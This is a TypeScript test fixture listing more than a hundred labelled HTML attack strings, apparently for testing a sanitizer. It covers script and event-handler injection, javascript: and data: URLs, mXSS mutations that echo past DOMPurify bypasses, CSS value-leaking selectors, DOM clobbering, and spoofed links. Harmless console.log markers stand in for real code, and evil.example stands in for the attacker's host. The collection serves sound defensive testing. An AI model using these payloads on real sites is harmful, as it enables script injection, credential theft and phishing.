// Html that attacks whoever looks at it, in the manner of OWASP's filter evasion list, of mXSS and of CSS that leaks. Code that
// runs would say 1337; everything that is loaded would come from evil.example.

/** Each with what it tries. */
export const htmlAttacks: readonly [tries: string, html: string][] = [
  // Script elements.
  ["a script", "<script>console.log(1337)</script>"],
  ["a script from elsewhere", '<script src="https://evil.example/x.js"></script>'],
  ["a script without its end", '<script src="https://evil.example/x.js"'],
  ["a script without quotes or blanks", "<SCRIPT/SRC=https://evil.example/x.js></SCRIPT>"],
  ["a script with a slash in its name", "<script/x>console.log(1337)</script>"],
  ["a script within a script's name", "<scr<script>ipt>console.log(1337)</scr</script>ipt>"],
  ["a script with half a bracket", "<<SCRIPT>console.log(1337);//<</SCRIPT>"],
  ["a script behind a NUL", "<scr\u0000ipt>console.log(1337)</scr\u0000ipt>"],
  ["a script behind a closed comment", "<!-- --!><script>console.log(1337)</script> -->"],
  ["a script in a comment that ends early", "<!--><script>console.log(1337)</script>-->"],
  ["a script in a conditional comment", "<!--[if gte IE 4]><script>console.log(1337)</script><![endif]-->"],
  ["a script in a downlevel-revealed comment", "<![if !IE]><script>console.log(1337)</script><![endif]>"],
  ["a script in a processing instruction", "<?xml version='1.0'?><script>console.log(1337)</script>"],
  ["a script in CDATA", "<![CDATA[<script>console.log(1337)</script>]]>"],
  ["a module", '<script type="module">import "https://evil.example/x.js"</script>'],
  // Event handlers.
  ["onerror", "<img src=x onerror=console.log(1337)>"],
  ["onerror behind slashes", '<img/src="x"/onerror=console.log(1337)>'],
  ["onerror behind a broken quote", '<img """><img src=x onerror=console.log(1337)>">'],
  ["onerror with a backtick", "<img src=`x`onerror=console.log(1337)>"],
  ["onerror in entities", '<img src=x onerror="&#99;onsole.log&lpar;1337&rpar;">'],
  ["onerror behind a form feed", "<img\fsrc=x\fonerror=console.log(1337)>"],
  ["onerror behind a vertical tab", "<img src=x \u000bonerror=console.log(1337)>"],
  ["onload of a body", "<body onload=console.log(1337)>"],
  ["onpageshow", "<body onpageshow=console.log(1337)>"],
  ["onload of an svg", "<svg onload=console.log(1337)>"],
  ["onload of an svg without blanks", "<svg/onload=console.log(1337)>"],
  ["onbegin of an animation", "<svg><animate onbegin=console.log(1337) attributeName=x dur=1s>"],
  ["autofocus", "<input autofocus onfocus=console.log(1337)>"],
  ["autofocus with tabindex", "<p tabindex=0 autofocus onfocus=console.log(1337)>a</p>"],
  ["ontoggle", "<details open ontoggle=console.log(1337)>a</details>"],
  ["onstart of a marquee", "<marquee onstart=console.log(1337)>a</marquee>"],
  ["oncanplay", '<video oncanplay=console.log(1337) src="https://evil.example/a.mp4" autoplay></video>'],
  ["onerror of a source", "<audio><source onerror=console.log(1337)></audio>"],
  [
    "onanimationstart",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=console.log(1337)>a</b>",
  ],
  ["ontransitionend", "<a style='transition:1s' ontransitionend=console.log(1337)>a</a>"],
  ["onscroll", "<div style='overflow:scroll;height:9px' onscroll=console.log(1337)><br><br><br></div>"],
  [
    "oncontentvisibilityautostatechange",
    "<div oncontentvisibilityautostatechange=console.log(1337) style=content-visibility:auto>a",
  ],
  [
    "onbeforetoggle of a popover",
    "<button popovertarget=x>a</button><p popover id=x onbeforetoggle=console.log(1337)>b",
  ],
  ["a handler in capitals", "<IMG SRC=x ONERROR=console.log(1337)>"],
  ["a very long run before a handler", `<img src=x ${"a=1 ".repeat(2_000)}onerror=console.log(1337)>`],
  // Addresses that run.
  ["javascript:", '<a href="javascript:console.log(1337)">a</a>'],
  ["javascript: in mixed case", '<a href="JaVaScRiPt:console.log(1337)">a</a>'],
  ["javascript: with a tab", '<a href="java\tscript:console.log(1337)">a</a>'],
  ["javascript: with a line feed in an entity", '<a href="java&NewLine;script:console.log(1337)">a</a>'],
  ["javascript: behind control characters", '<a href="\u0001\u0002 javascript:console.log(1337)">a</a>'],
  [
    "javascript: in entities without semicolons",
    '<a href="&#0000106&#0000097&#0000118&#0000097script:console.log(1337)">a</a>',
  ],
  ["javascript: with an entity for the colon", '<a href="javascript&colon;console.log(1337)">a</a>'],
  ["javascript: in an image", '<img src="javascript:console.log(1337)">'],
  [
    "javascript: in an area",
    '<img usemap=#m src=x><map name=m><area shape=default href="javascript:console.log(1337)"></map>',
  ],
  ["javascript: in a background", '<table background="javascript:console.log(1337)"><tr><td>a</table>'],
  ["vbscript:", "<a href='vbscript:msgbox(1)'>a</a>"],
  ["data: with html", '<a href="data:text/html,<script>console.log(1337)</script>">a</a>'],
  [
    "data: in an object",
    '<object data="data:text/html;base64,PHNjcmlwdD5jb25zb2xlLmxvZygxMzM3KTwvc2NyaXB0Pg=="></object>',
  ],
  [
    "data: in an image of svg",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='console.log(1337)'/>\">",
  ],
  ["xlink:href", '<svg><a xlink:href="javascript:console.log(1337)"><text y=20>a</text></a></svg>'],
  [
    "href of a use",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=console.log(1337) /></svg>#x\"></svg>",
  ],
  [
    "href set by an animation",
    '<svg><a><animate attributeName=href values="javascript:console.log(1337)" /><text y=20>a</text></a></svg>',
  ],
  ["formaction", '<form><button formaction="javascript:console.log(1337)">a</button></form>'],
  [
    "an address of another scheme",
    '<a href="intent://evil.example#Intent;end">a</a><a href="file:///etc/passwd">b</a>',
  ],
  ["a protocol-relative address", '<a href="//evil.example/x">a</a><img src="//evil.example/x.png">'],
  ["a backslash address", '<a href="/\\evil.example">a</a><img src="\\\\evil.example\\x.png">'],
  // Frames, forms and the page itself.
  ["a frame", '<iframe src="https://evil.example/"></iframe>'],
  ["a frame that runs", '<iframe src="javascript:console.log(1337)"></iframe>'],
  ["srcdoc", '<iframe srcdoc="<script>console.log(1337)</script>"></iframe>'],
  [
    "srcdoc in entities",
    '<iframe srcdoc="&lt;img src&equals;x onerror&equals;console.log(1337)&gt;"></iframe>',
  ],
  ["an embed", '<embed src="https://evil.example/x.swf">'],
  [
    "a portal and a fenced frame",
    '<portal src="https://evil.example/"></portal><fencedframe src="https://evil.example/"></fencedframe>',
  ],
  ["a frameset", '<frameset><frame src="https://evil.example/"></frameset>'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  [
    "meta refresh to data:",
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>console.log(1337)</script>">',
  ],
  [
    "a meta that sets a policy",
    '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
  ],
  ["a meta that sets a cookie", '<meta http-equiv="Set-Cookie" content="inreply=evil">'],
  ["a meta charset of UTF-7", '<meta charset="utf-7">+ADw-script+AD4-console.log(1337)+ADw-/script+AD4-'],
  ["base", '<base href="https://evil.example/"><a href="x">a</a><img src="x.png">'],
  ["base with a target", '<base target="_top"><a href="https://evil.example/">a</a>'],
  ["a form that posts here", '<form action="/sign-out" method="post"><button>a</button></form>'],
  [
    "a form that posts elsewhere",
    '<form action="https://evil.example/"><input name=password type=password><input type=image src="https://evil.example/x.png"></form>',
  ],
  [
    "a field of a form outside",
    '<input form="write" name="text" value="evil"><button form="write">a</button>',
  ],
  ["a form by isindex", '<isindex action="javascript:console.log(1337)" type=image>'],
  [
    "a dialog over the page",
    '<dialog open style="position:fixed;inset:0"><a href="https://evil.example/">Sign in</a></dialog>',
  ],
  // Loading from elsewhere.
  ["a picture", '<img src="https://evil.example/x.png" width=1 height=1>'],
  ["srcset", '<img srcset="https://evil.example/x.png 1x, https://evil.example/y.png 2x">'],
  [
    "a picture element",
    '<picture><source srcset="https://evil.example/x.webp"><img src="https://evil.example/x.png"></picture>',
  ],
  ["lowsrc and dynsrc", '<img lowsrc="https://evil.example/x.png" dynsrc="https://evil.example/x.avi">'],
  [
    "an image element of svg",
    '<svg><image href="https://evil.example/x.png" /><feImage href="https://evil.example/y.png" /></svg>',
  ],
  ["a poster", '<video poster="https://evil.example/x.png"></video>'],
  [
    "sound and subtitles",
    '<audio src="https://evil.example/x.mp3" autoplay></audio><video><track src="https://evil.example/x.vtt" default></video>',
  ],
  [
    "a background attribute",
    '<body background="https://evil.example/x.png"><table background="https://evil.example/y.png"><tr><td background="https://evil.example/z.png">a',
  ],
  ["a style sheet", '<link rel="stylesheet" href="https://evil.example/x.css">'],
  [
    "prefetch",
    '<link rel="prefetch" href="https://evil.example/x"><link rel="prerender" href="https://evil.example/y">',
  ],
  [
    "preconnect and dns-prefetch",
    '<link rel="preconnect" href="https://evil.example/"><link rel="dns-prefetch" href="//evil.example/">',
  ],
  [
    "preload and modulepreload",
    '<link rel="preload" as="image" href="https://evil.example/x.png"><link rel="modulepreload" href="https://evil.example/x.js">',
  ],
  [
    "an icon and a manifest",
    '<link rel="icon" href="https://evil.example/x.ico"><link rel="manifest" href="https://evil.example/x.json">',
  ],
  ["an html import", '<link rel="import" href="https://evil.example/x.html">'],
  ["ping", '<a href="https://ok.example/" ping="https://evil.example/">a</a>'],
  ["an applet", '<applet code="x" archive="https://evil.example/x.jar"></applet>'],
  [
    "a citation",
    '<blockquote cite="https://evil.example/">a</blockquote><q cite="javascript:console.log(1337)">b</q>',
  ],
  ["longdesc and usemap", '<img longdesc="https://evil.example/" usemap="https://evil.example/#x">'],
  [
    "XML data islands",
    '<xml src="https://evil.example/x.xml" id=i></xml><span datasrc=#i datafld=c dataformatas=html></span>',
  ],
  // CSS that loads, leaks or covers.
  ["@import", "<style>@import url(https://evil.example/x.css);</style>"],
  ["@import as a string", "<style>@import 'https://evil.example/x.css';</style>"],
  ["url() of a background", '<p style="background:url(https://evil.example/x.png)">a</p>'],
  ["url() with escapes", '<p style="background:\\75\\72\\6c(https://evil.example/x.png)">a</p>'],
  [
    "url() behind a comment",
    '<p style="background:u/**/rl(https://evil.example/x.png);background:url/**/(https://evil.example/x.png)">a</p>',
  ],
  ["image-set", "<p style=\"background-image:-webkit-image-set('https://evil.example/x.png' 1x)\">a</p>"],
  [
    "a cursor, a list and a border",
    '<p style="cursor:url(https://evil.example/c.cur),auto;list-style:url(https://evil.example/l.png);border-image:url(https://evil.example/b.png)">a</p>',
  ],
  [
    "a mask, a filter and a clip",
    '<p style="mask:url(https://evil.example/m.svg#x);filter:url(https://evil.example/f.svg#x);clip-path:url(https://evil.example/c.svg#x)">a</p>',
  ],
  ["a custom property", '<p style="--x:url(https://evil.example/x.png);background:var(--x)">a</p>'],
  ["content", "<style>p::before{content:url(https://evil.example/x.png)}</style><p>a</p>"],
  [
    "@font-face",
    "<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}p{font-family:x}</style><p>a</p>",
  ],
  [
    "a selector that reads a value",
    "<style>input[value^='a']{background:url(https://evil.example/a)}</style><input value=abc>",
  ],
  [
    "a unicode-range that reads letters",
    "<style>@font-face{font-family:p;src:url(https://evil.example/A);unicode-range:U+0041}body{font-family:p}</style>A",
  ],
  ["@namespace and @charset", '<style>@charset "utf-7";@namespace "https://evil.example/";</style>'],
  [
    "expression, behavior and -moz-binding",
    '<p style="width:expression(console.log(1337));behavior:url(https://evil.example/x.htc);-moz-binding:url(https://evil.example/x.xml)">a</p>',
  ],
  ["a style that closes itself", "<style></style><script>console.log(1337)</script></style>"],
  ["a style in svg that closes itself", "<svg><style><img src=x onerror=console.log(1337)></style></svg>"],
  [
    "a cover over the page",
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:#fff"><a href="https://evil.example/">a</a></div>',
  ],
  // mXSS: what one parser reads as text, another reads as elements.
  ["noscript", '<noscript><p title="</noscript><img src=x onerror=console.log(1337)>"></noscript>'],
  [
    "a title within a textarea",
    '<textarea><p title="</textarea><img src=x onerror=console.log(1337)>"></textarea>',
  ],
  ["xmp", '<xmp><p title="</xmp><img src=x onerror=console.log(1337)>"></xmp>'],
  [
    "noembed and noframes",
    '<noembed><p title="</noembed><img src=x onerror=console.log(1337)>"></noembed><noframes><p title="</noframes><img src=x onerror=console.log(1337)>"></noframes>',
  ],
  ["plaintext", "<plaintext><script>console.log(1337)</script>"],
  ["listing", "<listing>&lt;img src=x onerror=console.log(1337)&gt;</listing>"],
  [
    "a template",
    "<template><script>console.log(1337)</script><img src=x onerror=console.log(1337)></template>",
  ],
  [
    "a declarative shadow root",
    "<div><template shadowrootmode=open><img src=x onerror=console.log(1337)></template></div>",
  ],
  [
    "math and style (DOMPurify 2019)",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=console.log(1337)&gt;">',
  ],
  [
    "svg and style (DOMPurify 2.0.0)",
    '<svg></p><style><a id="</style><img src=1 onerror=console.log(1337)>">',
  ],
  [
    "a form within a form in math",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=console.log(1337)>",
  ],
  [
    "annotation-xml",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=console.log(1337)></style></annotation-xml></math>',
  ],
  [
    "foreignObject",
    "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=console.log(1337)></foreignObject></svg>",
  ],
  ["desc and a title", "<svg><desc><title></desc><img src=x onerror=console.log(1337)></title></svg>"],
  [
    "deep nesting that is flattened (DOMPurify 3.1)",
    `${"<div>".repeat(600)}<svg><style><img src=x onerror=console.log(1337)></style></svg>${"</div>".repeat(600)}`,
  ],
  [
    "a custom element with is=",
    '<p is="x-y" onclick=console.log(1337)>a</p><x-y onfocus=console.log(1337) autofocus tabindex=0>b</x-y>',
  ],
  [
    "a select that swallows",
    "<select><style></select><img src=x onerror=console.log(1337)></style></select>",
  ],
  [
    "a table that throws things out",
    "<table><td><svg><style></table><img src=x onerror=console.log(1337)></style></svg>",
  ],
  ["backtick attributes (old IE)", '<img alt="``onerror=console.log(1337)" src=x>'],
  ["a CDATA in svg", "<svg><![CDATA[><img src=x onerror=console.log(1337)>]]></svg>"],
  // Names and words that lie.
  [
    "clobbered names",
    '<img name=cookie><form id=document name=body><input name=attributes><input id=textContent></form><a id=location href="https://evil.example/">a</a>',
  ],
  [
    "ids and classes of the page",
    '<div id="content" class="panel primary problem"><p class="notice heading">a</p></div>',
  ],
  [
    "contenteditable and draggable",
    "<p contenteditable draggable=true ondragstart=console.log(1337) accesskey=x>a</p>",
  ],
  ["aria that lies", '<a role="button" aria-label="Approve" href="https://evil.example/">a</a>'],
  ["a link whose words name another host", '<a href="https://evil.example/">https://northbeam.example/</a>'],
  ["letters that turn around", '<a href="https://evil.example/">\u202eelpmaxe.maebhtron//:sptth\u202c</a>'],
  ["a byte order mark and a fake charset", "\ufeff<script>console.log(1337)</script>"],
  ["a script in full-width letters", "\uff1cscript\uff1econsole.log(1337)\uff1c/script\uff1e"],
  ["three thousand opened elements", "<b><i>".repeat(1_500)],
  ["twenty thousand brackets", "<".repeat(20_000)],
  [
    "a closed body and more",
    '</body></html><script>console.log(1337)</script><img src="https://evil.example/x.png">',
  ],
  [
    "a second document",
    "<!doctype html><html><head><script>console.log(1337)</script></head><body>a</body></html>",
  ],
  ["an xhtml entity", '<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example/x">]><p>&e;</p>'],
  ["the end of the frame's own attribute", '"></iframe><script>console.log(1337)</script>'],
  ["a template of ours", "{{{constructor}}}{{#with this}}{{lookup . 'x'}}{{/with}}"],
  [
    "MathML that leads elsewhere",
    '<math href="javascript:console.log(1337)">a<maction actiontype="statusline" xlink:href="https://evil.example/">b</maction></math>',
  ],
];
